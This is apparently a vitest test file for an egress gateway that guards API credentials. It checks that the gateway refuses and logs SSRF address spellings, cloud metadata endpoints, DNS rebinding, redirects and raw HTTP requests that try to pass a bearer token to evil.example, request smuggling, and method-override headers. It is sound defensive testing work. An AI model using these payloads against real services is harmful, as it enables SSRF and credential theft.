// Attacks on the whole gate for actions, with a real record: each is refused, and told of. Named after the checklist (N, P, S, T);
// `docs/threat-model.md` lists each.
import { isIP } from "node:net"
import { describe, expect, test, vi } from "vitest"
import type { LogRecord } from "../../src/audit/types.ts"
import { openTunnel } from "../gateway/egress/clients.ts"
import { openEgressGate } from "../gateway/egress/gate.ts"
import { startProxy } from "../gateway/egress/proxy.ts"
import { VALUE } from "../vault/support.ts"
import { askInside, connectAs, head, openInside } from "./egress-inside.ts"

const api =
  (more = "", host = "api.example.com") =>
  (port: number) =>
    `network:\n  - { id: api, allow: "${host}", ports: [${port}, 443], addresses: [127.0.0.1]${more} }\n`

/** What names lead to; addresses to themselves. */
const resolving = (names: Record<string, readonly string[]>) => async (host: string) =>
  isIP(host) !== 0 ? [host] : (names[host] ?? ["127.0.0.1"])

const told = (records: readonly LogRecord[]) =>
  records.map(({ type, outcome, verdict, detail }) =>
    [type, outcome, verdict?.code ?? (detail as { violation?: string } | undefined)?.violation].join(" "),
  )

describe("N1, N7: addresses that no rule names", () => {
  test("N1: an address is refused in whatever spelling, a metadata service also where rules name its address, under any name", async (t) => {
    const gate = await openEgressGate(t, {
      policy: (port) =>
        `network:\n  - { id: all, allow: "**", ports: [${port}] }\n  - { id: named, allow: metadata.google.internal, ports: [${port}], addresses: [127.0.0.1] }\n`,
      deps: {
        resolve: resolving({
          "metadata.google.internal": ["169.254.169.254"],
          "nat.example": ["64:ff9b::a9fe:a9fe"],
          "alibaba.example": ["100.100.100.200"],
          "azure.example": ["168.63.129.16"],
        }),
      },
    })
    const { port } = gate.origin
    for (const authority of ["[::ffff:127.0.0.1]", "0177.0.0.1", "2130706433", "0x7f000001", "127.1", "127.0.0.1%2f"]) {
      const opened = await connectAs(gate, `${authority}:${port}`)
      expect([authority, opened.text().slice(0, 13)]).toEqual([authority, "HTTP/1.1 400 "])
    }
    const malformed = Array(6).fill("network.violated refused authority.malformed")
    await vi.waitFor(async () => expect(told(await gate.records())).toEqual(malformed))
    const hosts = ["127.0.0.1", "[::1]", "169.254.169.254", "[fd00:ec2::254]", "metadata.google.internal"]
    for (const host of [...hosts, "nat.example", "alibaba.example", "azure.example"]) {
      const before = (await gate.records()).length
      const ran = await gate.curl(`https://${host}:${port}/latest/meta-data/`)
      expect([host, ran.stdout + ran.stderr]).toEqual([host, expect.stringMatching(/403/)])
      const since = (await gate.records()).slice(before)
      expect([host, told(since)]).toEqual([
        host,
        [expect.stringMatching(/^network.decided refused network.(?:private|metadata)/)],
      ])
    }
    expect(gate.seen).toEqual([])
  })

  test("N4: a name that no rule lets through is not looked up; one that has no address is told of", async (t) => {
    const asked: string[] = []
    const gate = await openEgressGate(t, {
      policy: (port) => `network:\n  - { id: all, allow: "*.example.com", ports: [${port}, 443] }\n`,
      deps: {
        resolve: async (host) => {
          asked.push(host)
          throw new Error("ENOTFOUND")
        },
      },
    })
    const { port } = gate.origin
    for (const host of ["secret-data.attacker.test", "a.secret-data.example.com", "example.com.attacker.test"])
      expect((await gate.curl(`https://${host}:${port}/`)).stdout + host).not.toContain("ok")
    expect(asked).toEqual([])
    const ran = await gate.curl(`https://secret-data.example.com:${port}/`)
    expect(ran.stdout).toMatch(/502$/)
    expect(asked.length).toBeGreaterThan(0)
    const last = (await gate.records()).at(-1)
    expect(last).toMatchObject({ outcome: "failed", subject: expect.stringContaining("secret-data.example.com") })
  })

  test("N4: DNS over HTTPS is a request like any other, with its answer or without", async (t) => {
    const gate = await openEgressGate(t, { policy: api(", methods: [GET], paths: [/v1/**]") })
    const ran = await gate.curl(`${gate.base}/dns-query?dns=AAABAAABAAAAAAAAA3d3dw`)
    expect(ran.stdout).toMatch(/403$/)
    const posted = await gate.curl("-H", "content-type: application/dns-message", "-d", "x", `${gate.base}/dns-query`)
    expect(posted.stdout).toMatch(/403$/)
    expect(gate.seen).toEqual([])
    expect(told(await gate.records())).toEqual(Array(2).fill("network.decided refused network.host-denied"))
  })
})

describe("P3: names that lead elsewhere from one moment to the next", () => {
  test("P3: each request is held to the addresses that it is sent to; one private among public ones is enough", async (t) => {
    let answers: readonly string[] = ["127.0.0.1"]
    const gate = await openEgressGate(t, { policy: api(), deps: { resolve: async () => answers } })
    expect((await gate.curl(`${gate.base}/`)).stdout).toBe("ok\n200")
    for (const next of [
      ["10.0.0.1"],
      ["127.0.0.1", "10.0.0.1"],
      ["127.0.0.1", "169.254.169.254"],
      ["::ffff:10.0.0.1"],
    ]) {
      answers = next
      const ran = await gate.curl(`${gate.base}/${next.length}${next[0]}`)
      expect([next, ran.stdout]).toEqual([next, expect.stringMatching(/403$/)])
    }
    expect(gate.seen).toHaveLength(1)
    expect((await gate.records()).slice(1).every(({ outcome }) => outcome === "refused")).toBe(true)
  })

  test("P3: on one connection, too: what was allowed before it has no bearing on what is dialled now", async (t) => {
    let lookups = 0
    const gate = await openEgressGate(t, {
      policy: api(),
      deps: { resolve: async () => (lookups++ === 0 ? ["127.0.0.1"] : ["192.168.1.1"]) },
    })
    const { port } = gate.origin
    const inside = await openInside(gate, port)
    inside.socket.write(head("GET", "/first", port))
    await inside.until(/ok/)
    inside.socket.write(head("GET", "/second", port))
    expect(await inside.until(/403 /)).toMatch(/HTTP\/1\.1 403 /)
    expect(gate.seen.map(({ url }) => url)).toEqual(["/first"])
  })
})

describe("P4, P5: what follows, and what nothing follows from", () => {
  test("P4: a redirect is the client's to follow: with its placeholder to another host it ends there", async (t) => {
    const gate = await openEgressGate(t, {
      policy: api(", credential: example"),
      hosts: ["evil.example"],
      origin: (request, response) =>
        void response.writeHead(302, { location: `https://evil.example/?${request.headers.authorization}` }).end(),
    })
    await gate.set()
    await gate.vault.reload()
    const placeholder = gate.vault.placeholder("example", "run-1")
    const ran = await gate.curl(
      "-L",
      "--location-trusted",
      "-H",
      `authorization: Bearer ${placeholder}`,
      `${gate.base}/`,
    )
    expect(ran.stdout + ran.stderr).not.toContain(VALUE)
    expect(ran.stdout).toMatch(/403$/)
    expect(gate.seen).toHaveLength(1)
    expect((await gate.records()).at(-1)).toMatchObject({ type: "credential.exfiltration", outcome: "refused" })
  })

  test("P5: a list without rules, and a policy without a list, let nothing through", async (t) => {
    for (const text of ["network: []\n", "packages: { deny: { severity: high } }\n"]) {
      const gate = await openEgressGate(t, { policy: () => text })
      const ran = await gate.curl(`${gate.base}/`)
      expect([text, ran.stdout + ran.stderr]).toEqual([text, expect.stringMatching(/403/)])
      expect(gate.seen).toEqual([])
      expect((await gate.records()).at(-1)).toMatchObject({
        outcome: "refused",
        verdict: { code: "network.host-denied" },
      })
    }
  })
})

describe("T1-T6: with a key at stake", () => {
  test("T2, T3, T4, T5: no form of another host gets it, and each is told of", async (t) => {
    const gate = await openEgressGate(t, { policy: api(", credential: example") })
    await gate.set()
    await gate.vault.reload()
    const { port } = gate.origin
    const placeholder = gate.vault.placeholder("example", "run-1")
    const key = `Authorization: Bearer ${placeholder}`
    const requests: [string, string][] = [
      [`GET / HTTP/1.1\r\nHost: evil.example\r\n${key}\r\n\r\n`, "authority.mismatch"],
      [`GET https://evil.example/ HTTP/1.1\r\nHost: api.example.com:${port}\r\n${key}\r\n\r\n`, "authority.mismatch"],
      [
        `GET http://api.example.com:${port}/ HTTP/1.1\r\nHost: api.example.com:${port}\r\n${key}\r\n\r\n`,
        "authority.mismatch",
      ],
      [`GET / HTTP/1.1\r\nHost: api.example.com:${port}\r\nHost: evil.example\r\n${key}\r\n\r\n`, "request.malformed"],
      [`CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example\r\n${key}\r\n\r\n`, "connect.nested"],
      [`TRACE / HTTP/1.1\r\nHost: api.example.com:${port}\r\n${key}\r\n\r\n`, "request.malformed"],
      [`post / HTTP/1.1\r\nHost: api.example.com:${port}\r\n${key}\r\nContent-Length: 0\r\n\r\n`, "request.malformed"],
    ]
    for (const [request, code] of requests) {
      const before = (await gate.records()).length
      const text = await askInside(gate, port, request)
      expect([request, text.slice(0, 200)]).toEqual([request, expect.stringMatching(/^HTTP\/1\.1 4\d\d /)])
      await vi.waitFor(async () =>
        expect(told((await gate.records()).slice(before))).toEqual([`network.violated refused ${code}`]),
      )
    }
    const plain = await connectAs(gate, `api.example.com:${port}`)
    plain.socket.write(head("GET", "/", port, key))
    expect(await plain.until(/tls\.expected/)).not.toContain("ok")
    await expect(openInside(gate, port, { servername: "evil.example" })).rejects.toThrow()
    await vi.waitFor(async () =>
      expect(told((await gate.records()).slice(-2))).toEqual([
        "network.violated refused tls.expected",
        "network.violated refused tls.sni-mismatch",
      ]),
    )
    expect(gate.seen).toEqual([])
  })

  test("T6: what follows a denied request on its connection is decided by itself", async (t) => {
    const gate = await openEgressGate(t, { policy: api(", methods: [GET], paths: [/open/**]") })
    const { port } = gate.origin
    const inside = await openInside(gate, port)
    const smuggled = head("GET", "/open/smuggled", port)
    inside.socket.write(
      `${head("GET", "/closed", port)}${head("POST", "/open/x", port, `Content-Length: ${smuggled.length}`)}${smuggled}${head("GET", "/open/last", port, "Connection: close")}`,
    )
    const text = await inside.until(/\0/)
    expect(text.match(/HTTP\/1\.1 \d+/g)).toEqual(["HTTP/1.1 403", "HTTP/1.1 403", "HTTP/1.1 200"])
    expect(gate.seen.map(({ url }) => url)).toEqual(["/open/last"])
    // Which of them is decided first depends on when their bodies are there.
    const outcomes = (await gate.records()).map(({ outcome }) => outcome)
    expect(outcomes.sort()).toEqual(["refused", "refused", "released"])
  })

  test("T6: headers by which an origin takes a request for another are refused, and names that objects have are plain ones", async (t) => {
    const gate = await openEgressGate(t, { policy: api(", methods: [GET, POST], paths: [/open]") })
    await gate.set()
    await gate.vault.reload()
    const headers = [
      "X-HTTP-Method-Override: DELETE",
      "X-Method-Override;",
      "X-Original-URL: /admin",
      "X-Rewrite-URL: /admin",
    ]
    for (const name of headers) {
      const ran = await gate.curl("-H", name, `${gate.base}/open`)
      expect([name, ran.stdout]).toEqual([name, expect.stringMatching(/400$/)])
    }
    expect(gate.seen).toEqual([])
    expect(told(await gate.records())).toEqual(headers.map(() => "network.violated refused request.malformed"))
    const names = ["constructor", "__proto__", "toString", "hasOwnProperty"]
    const ran = await gate.curl(...names.flatMap((name) => ["-H", `${name}: 1`]), `${gate.base}/open`)
    expect(ran.stdout).toBe("ok\n200")
    for (const name of names) {
      const placeholder = gate.vault.placeholder("example", "run-2")
      const stolen = await gate.curl("-H", `${name}: ${placeholder}`, `${gate.base}/open`)
      expect([name, stolen.stdout]).toEqual([name, expect.stringContaining("credential.unbound-placeholder")])
    }
    expect(gate.troubles).toEqual([])
  })
})

test("T5: a tunnel that is passed on, and in which nothing is said that belongs there, gives back what was set apart for it", async () => {
  const passed: unknown[] = []
  const proxy = await startProxy({
    tunnel: async () => ({ go: "pass", addresses: ["127.0.0.1"], done: (what) => void passed.push(what) }),
    limits: { headers: 300 },
  })
  const plain = await openTunnel(proxy, "api.example.com:443")
  plain.socket.write("SSH-2.0-x\r\n")
  const gone = await openTunnel(proxy, "api.example.com:443")
  gone.socket.destroy()
  await openTunnel(proxy, "api.example.com:443")
  const nothing = { sent: 0, received: 0 }
  await vi.waitFor(() => expect(passed).toEqual([nothing, nothing, nothing]), 5_000)
})
